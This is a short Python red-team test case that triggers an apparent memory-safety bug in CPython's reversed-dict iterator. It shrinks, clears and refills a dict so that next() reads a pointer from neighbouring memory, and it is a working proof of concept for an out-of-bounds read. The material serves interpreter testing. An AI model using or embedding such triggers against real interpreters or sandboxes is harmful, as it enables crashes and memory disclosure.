# technique: reversed(d) checks only that d's size is unchanged: shrink d's table to one entry out of 1000, take reversed(d), clear() and insert one key: next() reads past the new small table and returns (and increfs) a pointer from the neighbouring memory (red-team pass 68)
# expect: any
d = {}
for i in range(1000):
    d[i] = i
for i in range(1, 1000):
    del d[i]
it = reversed(d)
d.clear()
d[0] = 0
print(next(it))
